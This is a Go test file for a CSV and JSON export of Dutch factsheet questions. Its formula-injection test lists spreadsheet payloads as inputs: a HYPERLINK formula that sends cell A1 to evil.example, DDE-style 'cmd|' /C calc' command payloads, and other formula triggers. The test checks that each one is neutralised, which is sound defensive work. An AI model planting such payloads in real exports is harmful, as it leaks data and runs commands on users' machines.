package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"github.com/rodedraad/rodedraad/internal/model"
)

// dutchSite has the characters and punctuation that break naive CSV:
// ë, é, ĳ, curly quotes, a comma, a straight quote and a newline.
func dutchSite() *model.Site {
	s := &model.Site{Levels: []model.Level{{ID: "samen", Label: "Samen “leren”", Question: "Leren we?"}}}
	f := &model.Factsheet{ID: "fryslan", Title: "Coördinatie, regie en \"eigen kracht\""}
	old := &model.Edition{ID: "2021", Factsheet: f}
	cur := &model.Edition{ID: "2025", Name: "tweede editie", Factsheet: f}
	next := &model.Edition{ID: "2027", Draft: true, Factsheet: f}
	f.Editions, f.CurrentID = []*model.Edition{old, cur, next}, "2025"
	s.Factsheets = []*model.Factsheet{f}
	old.Themes = []*model.Theme{{ID: "ideeen", Title: "Ideeën\nen café", Edition: old, Questions: []model.Question{{
		ID: "vrijblijvend", Text: "Is het ‘vrijblijvend’ of *echt* ĳverig?", Sub: []model.Inline{"Ook in de café-setting?", "En “thuis”?"},
		Audience: model.Team, Level: "samen",
	}}}}
	cur.Sections = []*model.Section{{ID: "stappen", Title: "Stappen", Edition: cur, Methods: []model.Method{{
		ID: "sessie", Title: "Sessie", Steps: []model.Step{{Title: "Stap 1", Questions: []model.Question{{ID: "rol", Text: "Wat is mijn rol?", Audience: model.Professional}}}},
	}}}}
	next.Themes = []*model.Theme{{ID: "nieuw", Title: "Nieuw", Edition: next, Questions: []model.Question{{ID: "concept", Text: "Nog een vraag?", Audience: model.Professional}}}}
	return s
}

func TestCSV(t *testing.T) {
	rows := Questions(dutchSite())
	var buf bytes.Buffer
	if err := WriteCSV(&buf, rows, ','); err != nil {
		t.Fatal(err)
	}
	want := "\uFEFF" + strings.Join(Header, ",") + "\r\n" +
		"fryslan,\"Coördinatie, regie en \"\"eigen kracht\"\"\",2021,2021,false,theme,ideeen,\"Ideeën\r\nen café\",vrijblijvend,1," +
		"Is het ‘vrijblijvend’ of echt ĳverig?,Ook in de café-setting? | En “thuis”?,team,samen,Samen “leren”,/fryslan/2021/ideeen/#vraag-vrijblijvend,false\r\n" +
		"fryslan,\"Coördinatie, regie en \"\"eigen kracht\"\"\",2025,tweede editie,true,section,stappen,Stappen,rol,1," +
		"Wat is mijn rol?,,professional,,,/fryslan/2025/stappen/#vraag-rol,false\r\n" +
		"fryslan,\"Coördinatie, regie en \"\"eigen kracht\"\"\",2027,2027,false,theme,nieuw,Nieuw,concept,1," +
		"Nog een vraag?,,professional,,,/fryslan/2027/nieuw/#vraag-concept,true\r\n"
	if buf.String() != want {
		t.Errorf("got:\n%q\nwant:\n%q", buf.String(), want)
	}

	// A reader of the file, past the BOM, gets every text back intact.
	data, ok := bytes.CutPrefix(buf.Bytes(), []byte("\uFEFF"))
	if !ok {
		t.Fatal("no byte order mark")
	}
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(records[0], Header) {
		t.Errorf("header %q", records[0])
	}
	if len(records) != 4 {
		t.Fatalf("%d records, want 4", len(records))
	}
	first := records[1]
	for i, want := range map[int]string{
		1:  `Coördinatie, regie en "eigen kracht"`,
		7:  "Ideeën\nen café",
		10: "Is het ‘vrijblijvend’ of echt ĳverig?",
		11: "Ook in de café-setting? | En “thuis”?",
		14: "Samen “leren”",
	} {
		if first[i] != want {
			t.Errorf("%s: got %q, want %q", Header[i], first[i], want)
		}
	}
}

func TestCSVSemicolon(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, Questions(dutchSite()), ';'); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF")))
	r.Comma = ';'
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// The comma in the title no longer needs quotes; the quotes still do.
	if got := records[1][1]; got != `Coördinatie, regie en "eigen kracht"` || !strings.Contains(buf.String(), ";\"Coördinatie, regie en \"\"eigen kracht\"\"\";") {
		t.Errorf("factsheet title %q in\n%s", got, buf.String())
	}
	if err := WriteCSV(&buf, nil, '\t'); err == nil {
		t.Error("a tab separator was accepted")
	}
}

// TestCSVFormulas checks that no field of the CSV starts a formula
// (OWASP, CSV Injection): each trigger gets a leading quote, a text that
// merely contains one does not, and the JSON keeps every text exact. The
// rows are made here, not loaded: Markdown trims the leading spaces and
// tabs of a question, but a TOML text may still bring them in a field
// without Markdown, such as a title. field is the text as the CSV file
// has it (Go's CSV writer drops a lone carriage return in CRLF mode, so
// "\r=1+1" would open as a formula without the quote).
func TestCSVFormulas(t *testing.T) {
	for _, c := range []struct{ text, field string }{
		{`=HYPERLINK("https://evil.example/?"&A1;"Klik")`, `"'=HYPERLINK(""https://evil.example/?""&A1;""Klik"")"`},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"+1+1", "'+1+1"},
		{"-3", "'-3"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\tTab vooraan", "'\tTab vooraan"},
		{"\rWagenterugloop vooraan", `"'Wagenterugloop vooraan"`},
		{"\r=1+1", `"'=1+1"`},
		{"\x00Nul vooraan", "'\x00Nul vooraan"},
		{"  =1+1", "'  =1+1"},
		{"\n@SUM(A1)", "\"'\r\n@SUM(A1)\""},
		{"\u00a0+1", "'\u00a0+1"},
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠SUM(A1)", "'＠SUM(A1)"},
		{"Is 1+1=2?", "Is 1+1=2?"},
		{"Wat doe ik - en wat niet?", "Wat doe ik - en wat niet?"},
		{"'=al een aanhalingsteken", "'=al een aanhalingsteken"},
	} {
		t.Run(fmt.Sprintf("%q", c.text), func(t *testing.T) {
			rows := []Row{{Factsheet: "fryslan", Edition: "2025", Kind: InTheme, Part: "formules", PartTitle: "=1+1",
				ID: "vraag", Position: 1, Text: c.text, Sub: []string{c.text}, Path: "/fryslan/2025/formules/#vraag-vraag"}}
			var buf bytes.Buffer
			if err := WriteCSV(&buf, rows, ';'); err != nil {
				t.Fatal(err)
			}
			want := "\uFEFF" + strings.Join(Header, ";") + "\r\n" +
				"fryslan;;2025;;false;theme;formules;'=1+1;vraag;1;" + c.field + ";" + c.field + ";;;;/fryslan/2025/formules/#vraag-vraag;false\r\n"
			if buf.String() != want {
				t.Errorf("got:\n%q\nwant:\n%q", buf.String(), want)
			}

			var js bytes.Buffer
			if err := WriteJSON(&js, rows); err != nil {
				t.Fatal(err)
			}
			var doc struct{ Questions []Row }
			if err := json.Unmarshal(js.Bytes(), &doc); err != nil {
				t.Fatal(err)
			}
			if q := doc.Questions[0]; q.Text != c.text || q.Sub[0] != c.text || q.PartTitle != "=1+1" {
				t.Errorf("JSON text %q, sub %q, theme title %q: not the texts as written", q.Text, q.Sub, q.PartTitle)
			}
		})
	}
}
